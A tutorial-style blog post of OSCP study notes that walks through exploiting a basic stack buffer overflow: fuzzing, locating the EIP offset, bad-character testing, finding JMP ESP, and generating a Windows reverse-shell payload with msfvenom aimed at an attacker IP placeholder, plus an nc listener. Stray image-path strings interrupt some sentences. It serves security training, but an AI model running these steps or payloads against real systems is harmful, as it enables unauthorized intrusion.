Basic Buffer Overflows

5 minute read

A lot can be said about buffer overflows and they are perhaps the most daunting part of attempting the OSCP for most. However, as you'll find in most of your offensive hacking endeavors, it's all about experimentation and tweaking your process. Below are the notes I used to successfully exploit several applications (given they didn't have standard security such as ASLR or DEP) and serves as a good example of understanding a basic buffer overflow.

Fuzz the application

If you don't have access to the code and there aren't any publicly disclosed exploits then another viable option is to fuzz the application and see what happens. Fuzzing is essentially the act of sending malformed or unintended data to an application and watching to see if it behaves abnormally such as crashing. Keep in mind that just because you cause an application to crash doesn't necessarily mean that it's vulnerable but it should key you into paying closer attention to it.

  • Run the application
  •Attach the debugger (Immunity Debugger is a good option) to the application
  • Run your fuzzer
  • Write a script to replicate the crash (this is where you'll set the size of the buffer)

Find out which part of the buffer overwrites EIP

So you’ll need to know a few key pieces of controlling EIP to figure out exactly what we’re doing here

The EIP (Extended Instruction Pointer) register controls the execution flow of the application. Think of it as a steering wheel of a car, you can direct it where to go.

The ESP (Extended Stack Pointer) is an indirect memory operand pointing to the top of the stack. This is the point where the instructions that use the stack, actually use it.

Here’s a view of these values in Immunity
EIP & ESP Example

There are two basic tactics when attempting at controlling the EIP• Binary Tree Analysis (manual way) - essentially you split the buffer in a series of same characters until you notice the EIPgetting over-written

  • Unique String (automated way) - send a unique string so you can see which 4 bytes are written in the EIP.
    Example: Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4

Naturally you’ll want to use the Unique String Method whenever possible as it cuts down on discovery time and could lead to fewer mistakes.

  • Create a unique string that’s the size of your buffer (pattern_create.rb is great for this, comes with Kali!)
    • Usage: pattern\_create.rb 2200 <– size of your buffer
  • Place the output inside your script
  • Run script and locateEIP’s bytes
  • Use pattern_offset.rb to find the position from your pattern_create script
    • Usage: pattern-offset.rb 13731415 <–EIP value from crash
  • It should return your location (something like 1403). This means that on the 1404th byte is where you can direct EIP. A good way to test this is to send a certain amount of A's, B's, and C's to see where the values are located
    • Example: buffer = "A"*1403 + "B"*4 + "C"*793 <—-last part is to fulfill the original 2200 buffer

(Optional) Increase the buffer size to allow room for shellcode

The average size for shellcode is around 350-400 so you'll need to have roughly that much space left in the buffer. If you don't have enough then it's a good idea to increase the padding on your buffer either beforeor after the EIP director bytes.

Discover bad characters

To me this can be the most frustrating part of the process and often where people slip up. It's not so much that it's difficult but rather just tedious and attention to detail can go a long way. The purpose in discovering bad characters is to ensure that our shellcode doesn't get modified (truncated, character replaced, etc.). As a side note null values and carriage returns are notoriously bad characters.

  • Place the below character listing in your fuzzer \x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13 \x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x20\x21\x22\x23\x24\x25\x26 \x27\x28\x29\x2a\x2b\x2c\x2d\x2e\x2f\x30\x31\x32\x33\x34\x35\x36\x37\x38\x39 \x3a\x3b\x3c\x3d\x3e\x3f\x40\x41\x42\x43\x44\x45\x46\x47\x48\x49\x4a\x4b\x4c \x4d\x4e\x4f\x50\x51\x52\x53\x54\x55\x56\x57\x58\x59\x5a\x5b\x5c\x5d\x5e\x5f \x60\x61\x62\x63\x64\x65\x66\x67\x68\x69\x6a\x6b\x6c\x6d\x6e\x6f\x70\x71\x72 \x73\x74\x75\x76\x77\x78\x79\x7a\x7b\x7c\x7d\x7e\x7f\x80\x81\x82\x83\x84\x85 \x86\x87\x88\x89\x8a\x8b\x8c\x8d\x8e\x8f\x90\x91\x92\x93\x94\x95\x96\x97\x98 \x99\x9a\x9b\x9c\x9d\x9e\x9f\xa0\xa1\xa2\xa3\xa4\xa5\xa6\xa7\xa8\xa9\xaa\xab \xac\xad\xae\xaf\xb0\xb1\xb2\xb3\xb4\xb5\xb6\xb7\xb8\xb9\xba\xbb\xbc\xbd\xbe \xbf\xc0\xc1\xc2\xc3\xc4\xc5\xc6\xc7\xc8\xc9\xca\xcb\xcc\xcd\xce\xcf\xd0\xd1 \xd2\xd3\xd4\xd5\xd6\xd7\xd8\xd9\xda\xdb\xdc\xdd\xde\xdf\xe0\xe1\xe2\xe3\xe4 \xe5\xe6\xe7\xe8\xe9\xea\xeb\xec\xed\xee\xef\xf0\xf1\xf2\xf3\xf4\xf5\xf6\xf7 \xf8\xf9\xfa\xfb\xfc\xfd\xfe\xff
  • Run the fuzzer
  • Look at memory location of ESP
  • Discover where the increments are broken, malformed, omitted
  • Remove the character fromthe buffer and continue until you've completed them all

Bad Characters

Redirect EIP

When the application starts each time you'll notice that your pointers are at different locations. To ensure that we always hit our shellcode, we'll need a solid/static location with each restart. There are a couple of requirements in this instance (this is just a basic example). Needs to be readable and executable and can't have DEP or ASLR enabled. A good place to look is any accompanying DLL's with the application. A good tool tohelp discover potential modules is, which once again comes with Kali.

  • Once you've found a solid module, you'll want to search for JMP ESP's within immunity
    • Search > Sequence of Commands > "push esp (next line) retn"
    • Search for jmp esp in the whole DLL
    • If you can't find one then the nasm_shell command is FFE4 and you should search for that using
      • Usage: !mona find –s "\xff\xe4" –m <vulnerable module>
    • Test and place the location within your fuzzer
      JMP ESP

By redirecting the EIP to our newly found address, atthe time of the crash, a JMP ESP instruction will be executed, which will lead the execution flow into our shellcode

Generate Shellcode

Your shell code can be just about anything malicious that you want to do on the asset, but its typically used for returning a shell (but don't forget about other options like adding users, altering data, etc.). A basic tool to help with generating shellcode is msfvenom which is part of the Metasploit framework.

  • In our example we're going to use a reverse shell and encode it with shikata_ga_nai (I highly recommend to explore some of the other encoders as they may be the only options with your bad characters combination)
    • Usage: msfvenom -p windows/shell_reverse_tcp LHOST=<ATTACKING_IP> LPORT=<PORT NUMBER> EXITFUNC=thread -f c –ex86/shikata_ga_nai -b "<BAD CHARACTERS>
  • Make noteof the size of your shellcode as you'll need to account for it and ensure that you have the proper space
  • Within your fuzzer, place a few NOP's (\x90) before the shellcode to ensure it has enough room to decode and it won't trip over itself


You're ready to fire off your exploit! I recommend setting a breakpoint at the JMP ESP address to verify if the shellcode gets executed

  • Set up a listener on the port number that you chose
    • Usage: nc –lvp <PORT NUMBER>
  • Fire off your script and if everything works right you should be presented with a reverse shell from your target
    Reverse Shell


These are just my notes and may or may not work for you. What really taught me was going throughother hackers processes and picking out the pieces that I resonated with the most and creating my own process. Setting out an outline, like below, will at least keep you on track and give you enough of an idea to know what to do next.

High-level Structure

  • Check to see if application is vulnerable by using a fuzzer (increments buffer until crash)
  • Find out what part of the buffer overwrites EIP
  • Increase buffer size to allow room for shellcode
  • Discover bad characters that would break your shellcode
  • Redirect EIP
  • Generateshellcode
  • Exploit